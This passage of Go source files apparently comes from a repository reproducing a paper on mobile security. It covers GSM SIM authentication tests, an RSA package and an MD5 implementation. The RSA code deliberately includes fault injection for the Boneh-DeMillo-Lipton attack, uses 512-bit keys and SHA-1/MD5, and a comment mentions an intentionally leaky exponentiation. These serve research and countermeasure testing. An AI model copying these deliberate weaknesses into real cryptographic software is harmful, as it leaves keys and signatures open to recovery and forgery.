	sres, kcSIM := sim.Respond(rand)
	kcNet, err := ac.Verify("00101-555-01", rand, sres)
	if err != nil {
		t.Fatal(err)
	}
	if kcSIM != kcNet {
		t.Fatal("SIM and network derived different Kc")
	}
}

func TestAuthRejectsWrongSIM(t *testing.T) {
	ac := NewAuthCenter(prng.NewDRBG([]byte("auc2")))
	ki := bytes.Repeat([]byte{1}, KiLen)
	ac.Provision("good", ki) //nolint:errcheck
	clone, _ := NewSIM("good", bytes.Repeat([]byte{2}, KiLen))
	rand, _ := ac.Challenge("good")
	sres, _ := clone.Respond(rand)
	if _, err := ac.Verify("good", rand, sres); err != ErrAuthFailed {
		t.Fatalf("cloned SIM: want ErrAuthFailed, got %v", err)
	}
}

func TestAuthReplayRejected(t *testing.T) {
	ac := NewAuthCenter(prng.NewDRBG([]byte("auc3")))
	ki := bytes.Repeat([]byte{7}, KiLen)
	ac.Provision("sub", ki) //nolint:errcheck
	sim, _ := NewSIM("sub", ki)
	rand, _ := ac.Challenge("sub")
	sres, _ := sim.Respond(rand)
	if _, err := ac.Verify("sub", rand, sres); err != nil {
		t.Fatal(err)
	}
	if _, err := ac.Verify("sub", rand, sres); err != ErrReplayed {
		t.Fatalf("replay: want ErrReplayed, got %v", err)
	}
}

func TestAuthUnknownSubscriber(t *testing.T) {
	ac := NewAuthCenter(prng.NewDRBG(nil))
	if _, err := ac.Challenge("ghost"); err == nil {
		t.Error("challenged unknown subscriber")
	}
	if _, err := ac.Verify("ghost", []byte("r"), [SRESLen]byte{}); err == nil {
		t.Error("verified unknown subscriber")
	}
	if err := ac.Provision("x", []byte("short")); err == nil {
		t.Error("provisioned short Ki")
	}
	if _, err := NewSIM("x", []byte("short")); err == nil {
		t.Error("built SIM with short Ki")
	}
}

func TestChannelRoundtrip(t *testing.T) {
	kc := [8]byte{9, 8, 7, 6, 5, 4, 3, 2}
	phone := NewChannel(kc)
	tower := NewChannel(kc)
	for i := 0; i < 5; i++ {
		msg := []byte("voice frame ")
		msg = append(msg, byte('0'+i))
		frame, sealed, err := phone.SealFrame(msg)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Equal(sealed, msg) {
			t.Fatal("frame not ciphered")
		}
		got, err := tower.OpenFrame(frame, sealed)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, msg) {
			t.Fatalf("frame %d corrupted", i)
		}
	}
	if phone.Frame() != 5 {
		t.Fatalf("frame counter = %d", phone.Frame())
	}
}

func TestChannelRejectsOversized(t *testing.T) {
	c := NewChannel([8]byte{})
	if _, _, err := c.SealFrame(make([]byte, FrameBytes+1)); err == nil {
		t.Error("sealed oversized frame")
	}
	if _, err := c.OpenFrame(0, make([]byte, FrameBytes+1)); err == nil {
		t.Error("opened oversized frame")
	}
}

// TestFrameCounterResetReusesKeystream documents the bearer-layer
// weakness the paper's upper layers compensate for: resetting the
// counter (as happens across GSM hyperframes) reuses keystream, so two
// ciphertexts XOR to the two plaintexts.
func TestFrameCounterResetReusesKeystream(t *testing.T) {
	kc := [8]byte{1, 1, 2, 2, 3, 3, 4, 4}
	a := NewChannel(kc)
	b := NewChannel(kc) // "after reset": counter starts at 0 again
	_, ct1, _ := a.SealFrame([]byte("AAAAAAAA"))
	_, ct2, _ := b.SealFrame([]byte("BBBBBBBB"))
	for i := range ct1 {
		if ct1[i]^ct2[i] != 'A'^'B' {
			t.Fatal("expected keystream reuse after counter reset")
		}
	}
}

func BenchmarkA5Frame(b *testing.B) {
	key := [8]byte{1, 2, 3, 4, 5, 6, 7, 8}
	b.SetBytes(2 * FrameBytes)
	for i := 0; i < b.N; i++ {
		A5Frame(key, uint32(i)&0x3fffff)
	}
}
