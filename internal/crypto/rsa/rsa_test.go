package rsa

import (
	"bytes"
	"math/big"
	"testing"

	"repro/internal/crypto/mp"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/sha1"
)

// testKey generates a deterministic key once per size and caches it; RSA
// keygen dominates test time otherwise.
var keyCache = map[int]*PrivateKey{}

func testKey(t *testing.T, bits int) *PrivateKey {
	t.Helper()
	if k, ok := keyCache[bits]; ok {
		return k
	}
	k, err := GenerateKey(prng.NewDRBG([]byte("rsa-test-key")), bits)
	if err != nil {
		t.Fatalf("GenerateKey(%d): %v", bits, err)
	}
	keyCache[bits] = k
	return k
}

func TestGenerateKeyStructure(t *testing.T) {
	k := testKey(t, 512)
	if k.N.BitLen() != 512 {
		t.Fatalf("modulus %d bits, want 512", k.N.BitLen())
	}
	if new(big.Int).Mul(k.P, k.Q).Cmp(k.N) != 0 {
		t.Fatal("N != P*Q")
	}
	// e*d ≡ 1 mod φ(n)
	phi := new(big.Int).Mul(
		new(big.Int).Sub(k.P, big.NewInt(1)),
		new(big.Int).Sub(k.Q, big.NewInt(1)))
	ed := new(big.Int).Mul(big.NewInt(k.E), k.D)
	if new(big.Int).Mod(ed, phi).Int64() != 1 {
		t.Fatal("e*d != 1 mod phi")
	}
	// CRT parameters.
	if new(big.Int).Mod(new(big.Int).Mul(k.Qinv, k.Q), k.P).Int64() != 1 {
		t.Fatal("qinv*q != 1 mod p")
	}
}

func TestGenerateKeyRejectsTiny(t *testing.T) {
	if _, err := GenerateKey(prng.NewDRBG(nil), 64); err == nil {
		t.Fatal("accepted 64-bit modulus")
	}
}

func TestEncryptDecryptRoundtrip(t *testing.T) {
	k := testKey(t, 512)
	rng := prng.NewDRBG([]byte("enc"))
	for _, msg := range [][]byte{
		[]byte(""),
		[]byte("a"),
		[]byte("pre-master secret!"),
		bytes.Repeat([]byte{0xff}, 512/8-11),
	} {
		ct, err := EncryptPKCS1(rng, &k.PublicKey, msg)
		if err != nil {
			t.Fatalf("encrypt %q: %v", msg, err)
		}
		pt, err := DecryptPKCS1(k, ct, nil)
		if err != nil {
			t.Fatalf("decrypt %q: %v", msg, err)
		}
		if !bytes.Equal(pt, msg) {
			t.Fatalf("roundtrip %q -> %q", msg, pt)
		}
	}
}

func TestEncryptTooLong(t *testing.T) {
	k := testKey(t, 512)
	msg := make([]byte, 512/8-10)
	if _, err := EncryptPKCS1(prng.NewDRBG(nil), &k.PublicKey, msg); err != ErrMessageTooLong {
		t.Fatalf("want ErrMessageTooLong, got %v", err)
	}
}

func TestDecryptRejectsGarbage(t *testing.T) {
	k := testKey(t, 512)
	if _, err := DecryptPKCS1(k, make([]byte, 3), nil); err == nil {
		t.Fatal("accepted short ciphertext")
	}
	big := bytes.Repeat([]byte{0xff}, k.Size())
	if _, err := DecryptPKCS1(k, big, nil); err == nil {
		t.Fatal("accepted ciphertext >= N")
	}
}

func TestSignVerify(t *testing.T) {
	k := testKey(t, 512)
	digest := sha1.Sum([]byte("signed message"))
	for _, opts := range []*Options{
		nil,
		{NoCRT: true},
		{ConstantTime: true},
		{Blinding: true, Rand: prng.NewDRBG([]byte("blind"))},
		{VerifyAfterSign: true},
	} {
		sig, err := SignPKCS1(k, "sha1", digest[:], opts)
		if err != nil {
			t.Fatalf("sign with %+v: %v", opts, err)
		}
		if err := VerifyPKCS1(&k.PublicKey, "sha1", digest[:], sig); err != nil {
			t.Fatalf("verify with %+v: %v", opts, err)
		}
	}
}

func TestCRTMatchesNoCRT(t *testing.T) {
	k := testKey(t, 512)
	digest := sha1.Sum([]byte("crt equivalence"))
	s1, err := SignPKCS1(k, "sha1", digest[:], nil)
	if err != nil {
		t.Fatal(err)
	}
	s2, err := SignPKCS1(k, "sha1", digest[:], &Options{NoCRT: true})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(s1, s2) {
		t.Fatal("CRT and non-CRT signatures differ")
	}
}

func TestVerifyRejectsTamper(t *testing.T) {
	k := testKey(t, 512)
	digest := sha1.Sum([]byte("message"))
	sig, _ := SignPKCS1(k, "sha1", digest[:], nil)

	bad := append([]byte{}, sig...)
	bad[5] ^= 1
	if VerifyPKCS1(&k.PublicKey, "sha1", digest[:], bad) == nil {
		t.Fatal("accepted corrupted signature")
	}
	other := sha1.Sum([]byte("other message"))
	if VerifyPKCS1(&k.PublicKey, "sha1", other[:], sig) == nil {
		t.Fatal("accepted signature over wrong digest")
	}
	if VerifyPKCS1(&k.PublicKey, "sha1", digest[:], sig[:10]) == nil {
		t.Fatal("accepted truncated signature")
	}
}

func TestSignMD5(t *testing.T) {
	k := testKey(t, 512)
	digest := make([]byte, 16)
	sig, err := SignPKCS1(k, "md5", digest, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyPKCS1(&k.PublicKey, "md5", digest, sig); err != nil {
		t.Fatal(err)
	}
	if VerifyPKCS1(&k.PublicKey, "sha1", append(digest, 0, 0, 0, 0), sig) == nil {
		t.Fatal("hash algorithm confusion accepted")
	}
}

func TestUnsupportedHash(t *testing.T) {
	k := testKey(t, 512)
	if _, err := SignPKCS1(k, "sha256", make([]byte, 32), nil); err == nil {
		t.Fatal("accepted unsupported hash")
	}
}

// TestFaultInjectionBreaksSignature: with a fault and no countermeasure
// the signature is invalid — the precondition of the BDL attack.
func TestFaultInjectionBreaksSignature(t *testing.T) {
	k := testKey(t, 512)
	digest := sha1.Sum([]byte("faulted"))
	sig, err := SignPKCS1(k, "sha1", digest[:], &Options{Fault: &Fault{FlipBit: 7}})
	if err != nil {
		t.Fatal(err)
	}
	if VerifyPKCS1(&k.PublicKey, "sha1", digest[:], sig) == nil {
		t.Fatal("faulty signature verified")
	}
}

// TestVerifyAfterSignCatchesFault: the countermeasure refuses to release a
// faulty signature.
func TestVerifyAfterSignCatchesFault(t *testing.T) {
	k := testKey(t, 512)
	digest := sha1.Sum([]byte("protected"))
	_, err := SignPKCS1(k, "sha1", digest[:], &Options{
		Fault:           &Fault{FlipBit: 3},
		VerifyAfterSign: true,
	})
	if err != ErrFaultDetected {
		t.Fatalf("want ErrFaultDetected, got %v", err)
	}
}

func TestBlindingRequiresRand(t *testing.T) {
	k := testKey(t, 512)
	digest := sha1.Sum([]byte("m"))
	if _, err := SignPKCS1(k, "sha1", digest[:], &Options{Blinding: true}); err == nil {
		t.Fatal("blinding without Rand accepted")
	}
}

// TestCRTFasterThanNoCRT: the CRT path should cost roughly 4x less in
// simulated cycles — the reason implementations use it despite the fault
// risk (Section 3.4).
func TestCRTFasterThanNoCRT(t *testing.T) {
	k := testKey(t, 512)
	digest := sha1.Sum([]byte("cycles"))
	var crt, plain mp.CycleMeter
	if _, err := SignPKCS1(k, "sha1", digest[:], &Options{Meter: &crt}); err != nil {
		t.Fatal(err)
	}
	if _, err := SignPKCS1(k, "sha1", digest[:], &Options{NoCRT: true, Meter: &plain}); err != nil {
		t.Fatal(err)
	}
	ratio := float64(plain.Cycles()) / float64(crt.Cycles())
	if ratio < 2.5 || ratio > 6 {
		t.Fatalf("no-CRT/CRT cycle ratio = %.2f, want ≈4", ratio)
	}
}

func TestPublicKeySize(t *testing.T) {
	k := testKey(t, 512)
	if k.Size() != 64 {
		t.Fatalf("Size = %d, want 64", k.Size())
	}
}

func BenchmarkSignCRT512(b *testing.B) {
	k, _ := GenerateKey(prng.NewDRBG([]byte("bench")), 512)
	digest := sha1.Sum([]byte("bench"))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := SignPKCS1(k, "sha1", digest[:], nil); err != nil {
			b.Fatal(err)
		}
	}
}
