// Package rsa implements RSA key generation, PKCS#1 v1.5 encryption and
// signing from scratch over the Montgomery engine in internal/crypto/mp.
//
// RSA is the paper's reference public-key workload: the SSL/WTLS handshake
// cost that creates the processing gap (Section 3.2), the +42 mJ/KB secure
// mode of the battery study (Section 3.3), and the target of both the CRT
// fault attack and the timing attack (Section 3.4). The private-key path
// therefore supports the corresponding knobs: CRT on/off, blinding,
// verify-after-sign fault detection, and fault injection.
package rsa

import (
	"errors"
	"fmt"
	"io"
	"math/big"

	"repro/internal/crypto/mp"
)

// PublicKey is an RSA public key.
type PublicKey struct {
	N *big.Int // modulus
	E int64    // public exponent
}

// Size returns the modulus size in bytes.
func (pub *PublicKey) Size() int { return (pub.N.BitLen() + 7) / 8 }

// PrivateKey is an RSA private key with precomputed CRT parameters.
type PrivateKey struct {
	PublicKey
	D    *big.Int // private exponent
	P, Q *big.Int // prime factors
	Dp   *big.Int // d mod (p-1)
	Dq   *big.Int // d mod (q-1)
	Qinv *big.Int // q^{-1} mod p
}

// Errors returned by this package.
var (
	ErrMessageTooLong = errors.New("rsa: message too long for modulus")
	ErrDecryption     = errors.New("rsa: decryption error")
	ErrVerification   = errors.New("rsa: verification error")
	ErrFaultDetected  = errors.New("rsa: fault detected by verify-after-sign")
)

// GenerateKey generates an RSA key pair of the given modulus bit length
// from the supplied randomness source (typically a seeded DRBG, keeping
// experiments reproducible).
func GenerateKey(rng io.Reader, bits int) (*PrivateKey, error) {
	if bits < 128 {
		return nil, fmt.Errorf("rsa: modulus too small (%d bits)", bits)
	}
	e := big.NewInt(65537)
	for {
		p, err := genPrime(rng, bits/2)
		if err != nil {
			return nil, err
		}
		q, err := genPrime(rng, bits-bits/2)
		if err != nil {
			return nil, err
		}
		if p.Cmp(q) == 0 {
			continue
		}
		if p.Cmp(q) < 0 {
			p, q = q, p
		}
		n := new(big.Int).Mul(p, q)
		if n.BitLen() != bits {
			continue
		}
		pm1 := new(big.Int).Sub(p, big.NewInt(1))
		qm1 := new(big.Int).Sub(q, big.NewInt(1))
		phi := new(big.Int).Mul(pm1, qm1)
		d := new(big.Int).ModInverse(e, phi)
		if d == nil {
			continue // e not invertible: pick new primes
		}
		return &PrivateKey{
			PublicKey: PublicKey{N: n, E: e.Int64()},
			D:         d,
			P:         p,
			Q:         q,
			Dp:        new(big.Int).Mod(d, pm1),
			Dq:        new(big.Int).Mod(d, qm1),
			Qinv:      new(big.Int).ModInverse(q, p),
		}, nil
	}
}

func genPrime(rng io.Reader, bits int) (*big.Int, error) {
	bytes := (bits + 7) / 8
	buf := make([]byte, bytes)
	for {
		if _, err := io.ReadFull(rng, buf); err != nil {
			return nil, err
		}
		// Trim to the requested width, then force the top two bits (so
		// p*q has full length) and oddness.
		buf[0] &= 0xff >> uint(8*bytes-bits)
		p := new(big.Int).SetBytes(buf)
		p.SetBit(p, bits-1, 1)
		p.SetBit(p, bits-2, 1)
		p.SetBit(p, 0, 1)
		if p.ProbablyPrime(20) {
			return p, nil
		}
	}
}

// Options controls the private-key operation, exposing the
// tamper-resistance design space of Section 3.4.
type Options struct {
	// NoCRT disables the Chinese-Remainder-Theorem speedup (≈4x slower,
	// but immune to the Boneh-DeMillo-Lipton fault attack).
	NoCRT bool
	// ConstantTime selects the Montgomery-ladder exponentiation.
	ConstantTime bool
	// Blinding randomizes the operand with r^e before exponentiation,
	// defeating timing attacks; requires Rand.
	Blinding bool
	// Rand supplies randomness for blinding.
	Rand io.Reader
	// VerifyAfterSign re-verifies the result with the public key before
	// releasing it, detecting injected faults.
	VerifyAfterSign bool
	// Fault, if non-nil, corrupts the computation as a fault-induction
	// attacker would (Section 3.4's glitch/voltage/radiation attacks).
	Fault *Fault
	// Meter accumulates simulated cycles for the cost model.
	Meter *mp.CycleMeter
}

// Fault describes an injected computational fault.
type Fault struct {
	// FlipBit is the bit index to flip in the mod-p half of a CRT
	// computation (or in the full result when CRT is disabled).
	FlipBit int
}

// privateExp computes c^d mod n honoring the options.
func (priv *PrivateKey) privateExp(c *big.Int, opts *Options) (*big.Int, error) {
	if opts == nil {
		opts = &Options{}
	}
	input := c
	var blindInv *big.Int
	if opts.Blinding {
		if opts.Rand == nil {
			return nil, errors.New("rsa: blinding requested without a randomness source")
		}
		r, rInv, err := priv.blindingPair(opts.Rand)
		if err != nil {
			return nil, err
		}
		nctx, err := mp.NewMontCtx(priv.N)
		if err != nil {
			return nil, err
		}
		re := nctx.ModExp(r, big.NewInt(priv.E), opts.Meter)
		input = new(big.Int).Mod(new(big.Int).Mul(c, re), priv.N)
		blindInv = rInv
	}

	var m *big.Int
	if opts.NoCRT {
		nctx, err := mp.NewMontCtx(priv.N)
		if err != nil {
			return nil, err
		}
		m = priv.exp(nctx, input, priv.D, opts)
		if opts.Fault != nil {
			m = flipBit(m, opts.Fault.FlipBit, priv.N)
		}
	} else {
		pctx, err := mp.NewMontCtx(priv.P)
		if err != nil {
			return nil, err
		}
		qctx, err := mp.NewMontCtx(priv.Q)
		if err != nil {
			return nil, err
		}
		m1 := priv.exp(pctx, new(big.Int).Mod(input, priv.P), priv.Dp, opts)
		m2 := priv.exp(qctx, new(big.Int).Mod(input, priv.Q), priv.Dq, opts)
		if opts.Fault != nil {
			// The canonical Boneh-DeMillo-Lipton setting: one glitch
			// corrupts exactly one CRT half.
			m1 = flipBit(m1, opts.Fault.FlipBit, priv.P)
		}
		// Garner recombination: m = m2 + q*(qinv*(m1-m2) mod p).
		h := new(big.Int).Sub(m1, m2)
		h.Mod(h, priv.P)
		h.Mul(h, priv.Qinv)
		h.Mod(h, priv.P)
		m = new(big.Int).Mul(h, priv.Q)
		m.Add(m, m2)
	}

	if opts.Blinding {
		m.Mul(m, blindInv)
		m.Mod(m, priv.N)
	}
	if opts.VerifyAfterSign {
		nctx, err := mp.NewMontCtx(priv.N)
		if err != nil {
			return nil, err
		}
		check := nctx.ModExp(m, big.NewInt(priv.E), opts.Meter)
		want := new(big.Int).Mod(c, priv.N)
		if check.Cmp(want) != 0 {
			return nil, ErrFaultDetected
		}
	}
	return m, nil
}

func (priv *PrivateKey) exp(ctx *mp.MontCtx, base, e *big.Int, opts *Options) *big.Int {
	if opts.ConstantTime {
		return ctx.ModExpConstTime(base, e, opts.Meter)
	}
	// Private exponents are long and dense, where the 4-bit fixed window
	// beats square-and-multiply. The deliberately leaky ModExp lives on in
	// internal/crypto/mp for the side-channel experiments.
	return ctx.ModExpWindow(base, e, opts.Meter)
}

func (priv *PrivateKey) blindingPair(rng io.Reader) (r, rInv *big.Int, err error) {
	buf := make([]byte, priv.Size())
	for {
		if _, err := io.ReadFull(rng, buf); err != nil {
			return nil, nil, err
		}
		r = new(big.Int).SetBytes(buf)
		r.Mod(r, priv.N)
		if r.Sign() == 0 {
			continue
		}
		rInv = new(big.Int).ModInverse(r, priv.N)
		if rInv != nil {
			return r, rInv, nil
		}
	}
}

func flipBit(v *big.Int, bit int, mod *big.Int) *big.Int {
	if bit < 0 {
		bit = 0
	}
	bit %= mod.BitLen()
	out := new(big.Int).Set(v)
	mask := new(big.Int).Lsh(big.NewInt(1), uint(bit))
	out.Xor(out, mask)
	return out
}

// EncryptPKCS1 encrypts msg under pub with PKCS#1 v1.5 (EME) padding,
// drawing the nonzero padding string from rng.
func EncryptPKCS1(rng io.Reader, pub *PublicKey, msg []byte) ([]byte, error) {
	k := pub.Size()
	if len(msg) > k-11 {
		return nil, ErrMessageTooLong
	}
	em := make([]byte, k)
	em[0] = 0x00
	em[1] = 0x02
	ps := em[2 : k-len(msg)-1]
	for i := range ps {
		for {
			var b [1]byte
			if _, err := io.ReadFull(rng, b[:]); err != nil {
				return nil, err
			}
			if b[0] != 0 {
				ps[i] = b[0]
				break
			}
		}
	}
	em[k-len(msg)-1] = 0x00
	copy(em[k-len(msg):], msg)

	ctx, err := mp.NewMontCtx(pub.N)
	if err != nil {
		return nil, err
	}
	c := ctx.ModExp(new(big.Int).SetBytes(em), big.NewInt(pub.E), nil)
	return leftPad(c.Bytes(), k), nil
}

// DecryptPKCS1 decrypts a PKCS#1 v1.5 ciphertext with the private key.
func DecryptPKCS1(priv *PrivateKey, ct []byte, opts *Options) ([]byte, error) {
	k := priv.Size()
	if len(ct) != k {
		return nil, ErrDecryption
	}
	c := new(big.Int).SetBytes(ct)
	if c.Cmp(priv.N) >= 0 {
		return nil, ErrDecryption
	}
	m, err := priv.privateExp(c, opts)
	if err != nil {
		return nil, err
	}
	em := leftPad(m.Bytes(), k)
	if em[0] != 0x00 || em[1] != 0x02 {
		return nil, ErrDecryption
	}
	// Find the 0x00 separator after at least 8 padding bytes.
	sep := -1
	for i := 2; i < len(em); i++ {
		if em[i] == 0x00 {
			sep = i
			break
		}
	}
	if sep < 10 {
		return nil, ErrDecryption
	}
	return em[sep+1:], nil
}

// digestInfoPrefix returns the DER DigestInfo prefix for the named hash.
func digestInfoPrefix(hashName string) ([]byte, error) {
	switch hashName {
	case "sha1":
		return []byte{0x30, 0x21, 0x30, 0x09, 0x06, 0x05, 0x2b, 0x0e,
			0x03, 0x02, 0x1a, 0x05, 0x00, 0x04, 0x14}, nil
	case "md5":
		return []byte{0x30, 0x20, 0x30, 0x0c, 0x06, 0x08, 0x2a, 0x86,
			0x48, 0x86, 0xf7, 0x0d, 0x02, 0x05, 0x05, 0x00, 0x04, 0x10}, nil
	default:
		return nil, fmt.Errorf("rsa: unsupported hash %q", hashName)
	}
}

func buildEMSA(k int, hashName string, digest []byte) ([]byte, error) {
	prefix, err := digestInfoPrefix(hashName)
	if err != nil {
		return nil, err
	}
	t := append(append([]byte{}, prefix...), digest...)
	if k < len(t)+11 {
		return nil, ErrMessageTooLong
	}
	em := make([]byte, k)
	em[0] = 0x00
	em[1] = 0x01
	for i := 2; i < k-len(t)-1; i++ {
		em[i] = 0xff
	}
	em[k-len(t)-1] = 0x00
	copy(em[k-len(t):], t)
	return em, nil
}

// EncodeEMSA exposes the deterministic EMSA-PKCS1-v1.5 encoding of a
// digest for a k-byte modulus. The fault attack (internal/attack/fault)
// needs it: the Boneh-DeMillo-Lipton factorization works from the *known*
// encoded message and a faulty signature.
func EncodeEMSA(k int, hashName string, digest []byte) ([]byte, error) {
	return buildEMSA(k, hashName, digest)
}

// SignPKCS1 signs the given hash digest with PKCS#1 v1.5 (EMSA) padding.
// hashName is "sha1" or "md5".
func SignPKCS1(priv *PrivateKey, hashName string, digest []byte, opts *Options) ([]byte, error) {
	em, err := buildEMSA(priv.Size(), hashName, digest)
	if err != nil {
		return nil, err
	}
	s, err := priv.privateExp(new(big.Int).SetBytes(em), opts)
	if err != nil {
		return nil, err
	}
	return leftPad(s.Bytes(), priv.Size()), nil
}

// VerifyPKCS1 verifies a PKCS#1 v1.5 signature over the given digest.
func VerifyPKCS1(pub *PublicKey, hashName string, digest, sig []byte) error {
	k := pub.Size()
	if len(sig) != k {
		return ErrVerification
	}
	s := new(big.Int).SetBytes(sig)
	if s.Cmp(pub.N) >= 0 {
		return ErrVerification
	}
	ctx, err := mp.NewMontCtx(pub.N)
	if err != nil {
		return err
	}
	m := ctx.ModExp(s, big.NewInt(pub.E), nil)
	want, err := buildEMSA(k, hashName, digest)
	if err != nil {
		return err
	}
	got := leftPad(m.Bytes(), k)
	if len(got) != len(want) {
		return ErrVerification
	}
	var diff byte
	for i := range got {
		diff |= got[i] ^ want[i]
	}
	if diff != 0 {
		return ErrVerification
	}
	return nil
}

func leftPad(b []byte, size int) []byte {
	if len(b) >= size {
		return b
	}
	out := make([]byte, size)
	copy(out[size-len(b):], b)
	return out
}
