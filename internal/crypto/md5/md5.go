// Package md5 implements the MD5 hash function from scratch (RFC 1321).
//
// MD5 is the second of the two message-authentication hashes the paper's
// protocols negotiate (SHA-1 or MD5, Section 3.1); the RC4+MD5 SSL suites
// are the low-cost end of the flexibility spectrum analyzed there.
package md5

import "repro/internal/crypto/bitutil"

// Size is the MD5 digest size in bytes.
const Size = 16

// BlockSize is the MD5 block size in bytes.
const BlockSize = 64

// Digest is a streaming MD5 computation; create one with New.
type Digest struct {
	s   [4]uint32
	x   [BlockSize]byte
	nx  int
	len uint64
}

// New returns a new MD5 hash computation.
func New() *Digest {
	d := new(Digest)
	d.Reset()
	return d
}

// Reset returns the digest to its initial state.
func (d *Digest) Reset() {
	d.s = [4]uint32{0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476}
	d.nx = 0
	d.len = 0
}

// Size returns the digest size (16).
func (d *Digest) Size() int { return Size }

// BlockSize returns the block size (64).
func (d *Digest) BlockSize() int { return BlockSize }

// Write absorbs p into the hash state. It never fails.
func (d *Digest) Write(p []byte) (n int, err error) {
	n = len(p)
	d.len += uint64(n)
	if d.nx > 0 {
		c := copy(d.x[d.nx:], p)
		d.nx += c
		if d.nx == BlockSize {
			d.block(d.x[:])
			d.nx = 0
		}
		p = p[c:]
	}
	for len(p) >= BlockSize {
		d.block(p[:BlockSize])
		p = p[BlockSize:]
	}
	if len(p) > 0 {
		d.nx = copy(d.x[:], p)
	}
	return n, nil
}

// Sum appends the current digest to in and returns the result; the
// receiver's state is unchanged.
func (d *Digest) Sum(in []byte) []byte {
	dd := *d
	digest := dd.checkSum()
	return append(in, digest[:]...)
}

func (d *Digest) checkSum() [Size]byte {
	msgLen := d.len
	var pad [BlockSize + 8]byte
	pad[0] = 0x80
	padLen := BlockSize - int(msgLen%BlockSize)
	if padLen < 9 {
		padLen += BlockSize
	}
	// 64-bit little-endian bit length.
	bits := msgLen << 3
	for i := 0; i < 8; i++ {
		pad[padLen-8+i] = byte(bits >> uint(8*i))
	}
	d.Write(pad[:padLen]) //nolint:errcheck // never fails

	var out [Size]byte
	for i, v := range d.s {
		bitutil.Store32LE(out[i*4:], v)
	}
	return out
}

// sine-derived constants, K[i] = floor(2^32 * abs(sin(i+1))).
var kTable = [64]uint32{
	0xd76aa478, 0xe8c7b756, 0x242070db, 0xc1bdceee,
	0xf57c0faf, 0x4787c62a, 0xa8304613, 0xfd469501,
	0x698098d8, 0x8b44f7af, 0xffff5bb1, 0x895cd7be,
	0x6b901122, 0xfd987193, 0xa679438e, 0x49b40821,
	0xf61e2562, 0xc040b340, 0x265e5a51, 0xe9b6c7aa,
	0xd62f105d, 0x02441453, 0xd8a1e681, 0xe7d3fbc8,
	0x21e1cde6, 0xc33707d6, 0xf4d50d87, 0x455a14ed,
	0xa9e3e905, 0xfcefa3f8, 0x676f02d9, 0x8d2a4c8a,
	0xfffa3942, 0x8771f681, 0x6d9d6122, 0xfde5380c,
	0xa4beea44, 0x4bdecfa9, 0xf6bb4b60, 0xbebfbc70,
	0x289b7ec6, 0xeaa127fa, 0xd4ef3085, 0x04881d05,
	0xd9d4d039, 0xe6db99e5, 0x1fa27cf8, 0xc4ac5665,
	0xf4292244, 0x432aff97, 0xab9423a7, 0xfc93a039,
	0x655b59c3, 0x8f0ccc92, 0xffeff47d, 0x85845dd1,
	0x6fa87e4f, 0xfe2ce6e0, 0xa3014314, 0x4e0811a1,
	0xf7537e82, 0xbd3af235, 0x2ad7d2bb, 0xeb86d391,
}

var shifts = [64]uint{
	7, 12, 17, 22, 7, 12, 17, 22, 7, 12, 17, 22, 7, 12, 17, 22,
	5, 9, 14, 20, 5, 9, 14, 20, 5, 9, 14, 20, 5, 9, 14, 20,
	4, 11, 16, 23, 4, 11, 16, 23, 4, 11, 16, 23, 4, 11, 16, 23,
	6, 10, 15, 21, 6, 10, 15, 21, 6, 10, 15, 21, 6, 10, 15, 21,
}

// block runs the compression function with the 64-round loop split into
// its four 16-round phases, hoisting the round-function switch and the
// modular message-index arithmetic out of the loop body. Rounds, constants
// and shifts are unchanged, so digests are bit-identical to the reference
// loop.
func (d *Digest) block(p []byte) {
	var m [16]uint32
	for i := 0; i < 16; i++ {
		m[i] = bitutil.Load32LE(p[i*4:])
	}
	a, b, c, dd := d.s[0], d.s[1], d.s[2], d.s[3]
	for i := 0; i < 16; i++ {
		f := (b & c) | (^b & dd)
		t := a + f + kTable[i] + m[i]
		a, dd, c, b = dd, c, b, b+(t<<shifts[i]|t>>(32-shifts[i]))
	}
	g := 1
	for i := 16; i < 32; i++ {
		f := (dd & b) | (^dd & c)
		t := a + f + kTable[i] + m[g]
		g = (g + 5) & 15
		a, dd, c, b = dd, c, b, b+(t<<shifts[i]|t>>(32-shifts[i]))
	}
	g = 5
	for i := 32; i < 48; i++ {
		f := b ^ c ^ dd
		t := a + f + kTable[i] + m[g]
		g = (g + 3) & 15
		a, dd, c, b = dd, c, b, b+(t<<shifts[i]|t>>(32-shifts[i]))
	}
	g = 0
	for i := 48; i < 64; i++ {
		f := c ^ (b | ^dd)
		t := a + f + kTable[i] + m[g]
		g = (g + 7) & 15
		a, dd, c, b = dd, c, b, b+(t<<shifts[i]|t>>(32-shifts[i]))
	}
	d.s[0] += a
	d.s[1] += b
	d.s[2] += c
	d.s[3] += dd
}

// Sum returns the MD5 digest of data in one call.
func Sum(data []byte) [Size]byte {
	d := New()
	d.Write(data) //nolint:errcheck // never fails
	return d.checkSum()
}
