package md5

import (
	"bytes"
	stdmd5 "crypto/md5"
	"encoding/hex"
	"math/rand"
	"testing"
	"testing/quick"
)

// RFC 1321 test suite.
var knownVectors = []struct {
	in   string
	want string
}{
	{"", "d41d8cd98f00b204e9800998ecf8427e"},
	{"a", "0cc175b9c0f1b6a831c399e269772661"},
	{"abc", "900150983cd24fb0d6963f7d28e17f72"},
	{"message digest", "f96b697d7cb7938d525a2f31aaf161d0"},
	{"abcdefghijklmnopqrstuvwxyz", "c3fcd3d76192e4007dfb496cca67e13b"},
	{"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
		"d174ab98d277d9f5a5611c2c9f419d9f"},
	{"12345678901234567890123456789012345678901234567890123456789012345678901234567890",
		"57edf4a22be3c955ac49da2e2107b67a"},
}

func TestKnownVectors(t *testing.T) {
	for _, v := range knownVectors {
		got := Sum([]byte(v.in))
		if hex.EncodeToString(got[:]) != v.want {
			t.Errorf("MD5(%q) = %x, want %s", v.in, got, v.want)
		}
	}
}

func TestAgainstStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 200; i++ {
		n := rng.Intn(300)
		msg := make([]byte, n)
		rng.Read(msg)
		got := Sum(msg)
		want := stdmd5.Sum(msg)
		if got != want {
			t.Fatalf("len %d: got %x want %x", n, got, want)
		}
	}
}

func TestChunkedWrites(t *testing.T) {
	msg := make([]byte, 401)
